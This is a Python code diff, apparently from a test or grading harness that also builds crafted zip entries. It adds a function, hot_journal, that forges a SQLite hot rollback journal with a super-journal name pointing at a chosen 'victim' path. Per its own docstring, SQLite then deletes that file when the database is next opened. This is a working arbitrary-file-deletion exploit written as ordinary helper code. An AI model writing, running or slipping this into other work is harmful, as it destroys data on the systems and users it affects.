@@ -2,6 +2,7 @@
 
 import io
 import json
+import struct
 import zipfile
 from pathlib import Path
 from typing import Any
@@ -36,6 +37,16 @@ class Plain(zipfile.ZipInfo):
 
     def _encodeFilenameFlags(self) -> tuple[bytes, int]:  # zipfile asks it for the bytes
         return self.raw, self.flag_bits
+
+
+def hot_journal(out: Path, victim: Path) -> None:
+    """Leave what SQLite writes before it changes a journal in place; it names a file that SQLite deletes afterwards."""
+    name, page, sector, magic = bytes(victim), 4096, 512, bytes.fromhex("d9d505f920a163d7")
+    pages = (out / "journal.sqlite").stat().st_size // page
+    head = (magic + struct.pack(">5I", 0, 0, pages, sector, page)).ljust(sector, b"\0")
+    end = struct.pack(">II", len(name), sum(name)) + magic
+    content = head + struct.pack(">I", (1 << 30) // page + 1) + name + end
+    (out / "journal.sqlite-journal").write_bytes(content)
 
 
 def grades(out: Path) -> pd.DataFrame:
